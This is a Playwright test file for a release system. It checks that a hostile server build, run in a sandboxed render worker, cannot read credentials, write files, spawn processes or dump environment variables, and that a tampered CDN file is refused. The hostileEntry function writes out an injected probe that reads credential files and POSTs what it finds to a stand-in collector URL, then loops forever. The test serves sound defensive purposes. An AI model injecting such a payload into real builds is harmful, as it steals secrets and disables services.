import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { expect, test, type APIRequestContext } from '@playwright/test';
import { filesUnder, openReleasePage, publishUpload, releaseToken } from './support/release';
import { edgeUrl, repoRoot, stackEnv, stateDir } from './support/stack';

/**
 * Issue 31, item 2: a publisher's server build runs in a render worker that holds no secret. The hostile probe's build
 * (published with the publisher's own token, opened through a QA override link) tries to read the release credentials,
 * write a file, start a process, sends home whatever it got, then loops for ever. It gets nothing; the page still
 * answers 200, rendered in the browser; the next guest's page is rendered on the server again by a new worker. A file
 * changed on the CDN after publish is refused before it runs.
 */

const REMOTE = 'content';
const PAGE = '/en/display/aboutus';

test.describe.configure({ mode: 'serial' });

const managerAuth = () => ({ authorization: `Bearer ${releaseToken('release-manager')}` });

/** What the hostile build reports home: a listener of the test's own, as an attacker's server would be. */
let listener: http.Server;
let reports: string[] = [];
let reportUrl: string;

test.beforeAll(async () => {
  listener = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      reports.push(body);
      res.end('ok');
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  reportUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/stolen`;
});
test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));

const credentialsFile = () => path.join(stackEnv.RELEASE_DIR!, 'credentials.json');
const writeMarker = path.join(stateDir, 'written-by-a-server-build');
const spawnMarker = path.join(stateDir, 'touched-by-a-server-build');

/** The probe's two added lines (and a few more): every attempt, then the report, then a loop that never ends. */
function hostileEntry(original: Buffer): Buffer {
  const attack = `
;(function probe() {
  var seen = {};
  var attempt = function (name, work) { try { seen[name] = 'got:' + String(work()); } catch (error) { seen[name] = 'refused:' + (error.code || error.message); } };
  attempt('credentials', function () { return require('fs').readFileSync(${JSON.stringify(credentialsFile())}, 'utf8'); });
  attempt('overrideSecret', function () { return require('fs').readFileSync(${JSON.stringify(path.join(stackEnv.RELEASE_DIR!, 'override-secret'))}, 'utf8'); });
  attempt('write', function () { require('fs').writeFileSync(${JSON.stringify(writeMarker)}, 'pwned'); return 'written'; });
  attempt('spawn', function () { return require('child_process').execFileSync('touch', [${JSON.stringify(spawnMarker)}]); });
  attempt('thread', function () { return new (require('worker_threads').Worker)('1', { eval: true }); });
  attempt('environment', function () { return JSON.stringify(process.env); });
  fetch(${JSON.stringify(reportUrl)}, { method: 'POST', body: JSON.stringify(seen) }).finally(function () { for (;;) {} });
})();
`;
  return Buffer.concat([Buffer.from(attack), original]);
}

/** Published with the publisher's token, as the probe did; its own marker keeps the version's content its own. */
async function publish(request: APIRequestContext, label: string, change: (files: Map<string, Buffer>) => void): Promise<string> {
  const version = `9.6.0-${label}-${Date.now().toString(36)}`;
  const files = filesUnder(path.join(repoRoot, 'remote-content', 'dist'));
  change(files);
  files.set('remoteEntry.js', Buffer.concat([files.get('remoteEntry.js')!, Buffer.from(`\n/* ${version} */\n`)]));
  const upload = publishUpload(files, version);
  const response = await request.post(`${edgeUrl}/_release/api/remotes/${REMOTE}/versions`, {
    headers: { authorization: `Bearer ${releaseToken(`publisher-${REMOTE}`)}`, ...upload.headers },
    data: upload.data,
  });
  expect(response.status(), await response.text()).toBe(201);
  return version;
}

/** A QA override link for the version, opened in a browser context of its own. */
async function openThroughOverride(request: APIRequestContext, qa: APIRequestContext, version: string): Promise<void> {
  const created = await request.post(`${edgeUrl}/_release/api/override-links`, { headers: managerAuth(), data: { remote: REMOTE, version, minutes: 10 } });
  expect(created.status()).toBe(201);
  const { url } = (await created.json()) as { url: string };
  const opened = await qa.get(new URL(url).pathname + new URL(url).search);
  expect(opened.status()).toBeLessThan(400);
}

/** The versions of the remote the edge quarantined (docs/releases.md "Quarantine"), as the release API lists them. */
async function quarantined(request: APIRequestContext): Promise<string[]> {
  const status = (await (await request.get(`${edgeUrl}/_release/api/status`, { headers: managerAuth() })).json()) as {
    remotes: Record<string, { quarantined?: Record<string, unknown> }>;
  };
  return Object.keys(status.remotes[REMOTE]?.quarantined ?? {});
}

test('a hostile server build reads no credentials, writes nothing, starts nothing, and the page still answers 200; the release manager clears its quarantine on the release page', async ({ browser, page: manager, request }) => {
  test.setTimeout(180_000);
  reports = [];
  const version = await publish(request, 'hostile', (files) => files.set('server/remoteEntry.js', hostileEntry(files.get('server/remoteEntry.js')!)));
  const qa = await browser.newContext();
  await openThroughOverride(request, qa.request, version);

  const started = Date.now();
  const response = await qa.request.get(PAGE);
  const html = await response.text();
  expect(Date.now() - started, 'the answer waits no longer than the time budget').toBeLessThan(15_000);
  expect(response.status()).toBe(200);
  // The worker ran the build, looped and was killed at its time budget (that page was the browser-rendered one), and
  // the version was quarantined: its pages are now rendered on the server without its region, which the browser renders
  // (docs/releases.md, "Quarantine"). Either way the page answers 200 with the version in its release map.
  expect(html).toContain(`"version":"${version}"`);
  // The worker is killed after 3 s of CPU time in the loop: on a machine loaded ten times over its cores that is many
  // more seconds of wall time (measured: over 20 s at a load average of 26 on 2 cores).
  await expect.poll(() => quarantined(request), { timeout: 60_000 }).toContain(version);

  // The build did run (it reported home) and got nothing.
  await expect.poll(() => reports.length, { timeout: 10_000 }).toBeGreaterThan(0);
  const seen = JSON.parse(reports[0]!) as Record<string, string>;
  expect(seen).toMatchObject({
    credentials: 'refused:ERR_ACCESS_DENIED',
    overrideSecret: 'refused:ERR_ACCESS_DENIED',
    write: 'refused:ERR_ACCESS_DENIED',
    spawn: 'refused:ERR_ACCESS_DENIED',
    thread: 'refused:ERR_ACCESS_DENIED',
  });
  expect(JSON.parse(seen.environment!.replace(/^got:/, ''))).toEqual({ NODE_ENV: 'production' });
  const credentials = fs.readFileSync(credentialsFile(), 'utf8');
  const tokens = (JSON.parse(credentials) as { credentials: { token: string }[] }).credentials.map((c) => c.token);
  for (const answer of [html, ...reports]) for (const token of tokens) expect(answer).not.toContain(token);
  expect(fs.existsSync(writeMarker)).toBe(false);
  expect(fs.existsSync(spawnMarker)).toBe(false);

  // The browser renders the page with the hostile version's browser build (unchanged): the QA person sees the page.
  const page = await qa.newPage();
  await page.goto(PAGE);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await qa.close();

  // A new worker took the killed one's place: a guest's page is rendered on the server again (once the new worker
  // has loaded the live remotes: its first render may leave them to the browser).
  await expect
    .poll(async () => {
      const guest = await request.get(`${PAGE}?after-the-probe=${Date.now()}`);
      return `${guest.status()} ${guest.headers()['x-casino-render']}`;
    }, { timeout: 20_000 })
    .toBe('200 server');

  // The release manager sees the quarantine on the release page beside the remote, with why, and clears it there:
  // the button asks first (declined: nothing changes), then the edge may render the version on the server again.
  let accept = false;
  await openReleasePage(manager, REMOTE, () => accept);
  const quarantine = manager.locator(`[data-remote="${REMOTE}"] [data-quarantined="${version}"]`);
  await expect(quarantine).toContainText('render worker was lost');
  const clear = quarantine.getByRole('button', { name: `Clear the quarantine of ${REMOTE} ${version}` });
  const asked = manager.waitForEvent('dialog');
  await clear.click();
  expect((await asked).message()).toContain(`Render ${REMOTE} ${version} on the server again?`);
  expect(await quarantined(request)).toContain(version);
  await expect(quarantine).toBeVisible();
  accept = true;
  await clear.click();
  await expect(manager.locator('#message')).toHaveText(`Clear the quarantine of ${REMOTE} ${version}: done.`);
  await expect(quarantine).toHaveCount(0);
  await expect(manager.locator('#history tr').first()).toContainText('clear-quarantine');
  await expect(manager.locator('#history tr').first()).toContainText('release-manager');
  expect(await quarantined(request)).not.toContain(version);
});

test('a server file changed on the CDN after publish is refused before it runs; the page answers 200', async ({ browser, request }) => {
  reports = [];
  const version = await publish(request, 'swapped', () => undefined);
  // Someone with access to the CDN's files (not the release API) swaps the entry for the hostile one.
  const entry = path.join(stackEnv.CDN_DIR!, REMOTE, version, 'server', 'remoteEntry.js');
  fs.writeFileSync(entry, hostileEntry(fs.readFileSync(entry)));
  const qa = await browser.newContext();
  await openThroughOverride(request, qa.request, version);

  const response = await qa.request.get(PAGE);
  expect(response.status()).toBe(200);
  const html = await response.text();
  // The rest of the page is rendered on the server; the region of the refused remote is left to the browser.
  expect(response.headers()['x-casino-render']).toBe('server');
  expect(html).toContain('data-testid="site-header"');
  await new Promise((resolve) => setTimeout(resolve, 1000));
  expect(reports, 'the swapped entry never ran').toEqual([]);
  await qa.close();
});
